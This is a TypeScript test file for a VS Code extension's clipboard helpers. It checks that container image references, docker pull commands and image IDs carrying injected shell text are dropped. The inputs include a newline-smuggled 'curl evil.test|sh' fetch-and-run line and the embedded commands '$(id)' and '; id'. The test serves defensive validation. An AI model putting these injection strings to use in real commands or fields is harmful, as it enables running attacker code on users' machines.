import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { takeShown, useFakeVscode } from '../support/fakeVscode.ts';

useFakeVscode();
const clipboard = await import('../../../../src/host/display/clipboard.ts');

suite('the clipboard', () => {
  test('gets references, one a line, and the command that pulls one', async () => {
    const reference = 'gitea.test:3000/dev/team/app:1.2-x';
    takeShown();
    await clipboard.copyReferences([reference, 'gitea.test/dev/app\ncurl evil.test|sh #:1', 'localhost/app:1']);
    await clipboard.copyPullCommand(reference);
    await clipboard.copyPullCommand('gitea.test/dev/$(id):1');
    await clipboard.copyImageIds([`sha256:${'a'.repeat(64)}`, 'sha256:a; id']);
    assert.deepEqual(
      takeShown().map(({ text }) => text),
      [`${reference}\nlocalhost/app:1`, `docker pull ${reference}`, `sha256:${'a'.repeat(64)}`],
    );
  });
});
